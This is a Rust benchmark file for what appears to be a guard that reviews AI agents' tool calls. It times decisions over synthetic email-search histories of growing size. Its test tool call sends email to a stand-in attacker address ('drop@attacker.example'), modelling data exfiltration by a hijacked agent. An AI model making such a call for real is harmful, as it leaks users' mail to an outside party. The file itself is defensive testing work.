//! Decisions about tool calls: what one costs on a history of a size, read anew each time as the gateway does.

use std::hint::black_box;
use std::io::Write as _;
use std::time::Instant;

use bartizan_core::{Limits, Mode, Protocol, ToolCall};
use bartizan_guard::{Decider, Guard, Settings};
use serde_json::{Value, json};

use super::{PROSE, text};
use crate::DONE;

/// Prints what decisions take at the median and the 99th percentile, as wall time: counters of processor time move in
/// steps longer than a decision. On a quiet machine the two are the same.
pub(super) fn run(rounds: usize) -> anyhow::Result<u8> {
    let guard = Guard::new(&Settings::default())?;
    let mut out = std::io::stdout().lock();
    writeln!(out, "{:>16}  {:>9}  {:>8}  {:>8}  {:>9}", "history", "bytes", "p50 ms", "p99 ms", "verdict")?;
    for kib in [4, 16, 60, 240] {
        for (name, structured) in [("records", true), ("prose", false)] {
            let request = serde_json::to_vec(&conversation(kib << 10, structured))?;
            let bytes = request.len();
            let parsed = guard.read_request(Protocol::OpenaiChat, request)?;
            let mut times = Vec::with_capacity(rounds);
            let mut verdict = None;
            for _ in 0..rounds.max(1) {
                // The history is read with the first call that is decided.
                let start = Instant::now();
                let Some(agent) = guard.agent(parsed.exchange(), "") else { continue };
                let mut decider = Decider::new(agent, None, Mode::Enforce, &Limits::default());
                verdict = Some(black_box(&mut decider).decide(&call()).verdict());
                times.push(start.elapsed().as_secs_f64() * 1e3);
            }
            times.sort_by(f64::total_cmp);
            let at = |part: usize| times.get((times.len() * part / 100).min(times.len().saturating_sub(1)));
            let (median, worst) = (at(50).copied().unwrap_or(f64::NAN), at(99).copied().unwrap_or(f64::NAN));
            let verdict = verdict.map_or("", |v| v.as_str());
            writeln!(out, "{name:>16}  {bytes:>9}  {median:>8.3}  {worst:>8.3}  {verdict:>9}")?;
        }
    }
    Ok(DONE)
}

fn call() -> ToolCall {
    ToolCall {
        id: "last".to_owned(),
        name: "send_email".to_owned(),
        arguments: json!({"to": "drop@attacker.example", "subject": "Minutes", "body": "As agreed."}).to_string(),
        provider: false,
    }
}

/// An agent that has read results of about so many bytes in all.
fn conversation(bytes: usize, structured: bool) -> Value {
    let schema = json!({"type": "object", "properties": {
        "to": {"type": "string"}, "subject": {"type": "string"}, "body": {"type": "string"}, "query": {"type": "string"}}});
    let tool = |name: &str| json!({"type": "function", "function": {"name": name, "parameters": schema}});
    let mut messages = vec![json!({"role": "user", "content": "Look through my mail of this week and answer Ann."})];
    let mut size = 0;
    for turn in 0.. {
        if size >= bytes {
            break;
        }
        let result = if structured {
            let mail = |i: usize| {
                json!({"id": format!("{turn}-{i}"), "sender": format!("p{i}@partner{turn}.example"),
                    "subject": format!("Offer {i}"), "body": text(PROSE, 120), "amount": i * 13, "read": false})
            };
            Value::from((0..8).map(mail).collect::<Vec<_>>()).to_string()
        } else {
            text(PROSE, 2048)
        };
        size += result.len();
        let id = format!("c{turn}");
        let made = json!({"id": id, "type": "function",
            "function": {"name": "search_emails", "arguments": json!({"query": format!("week {turn}")}).to_string()}});
        messages.push(json!({"role": "assistant", "content": null, "tool_calls": [made]}));
        messages.push(json!({"role": "tool", "tool_call_id": id, "content": result}));
    }
    json!({"model": "m", "tools": [tool("search_emails"), tool("send_email")], "messages": messages})
}
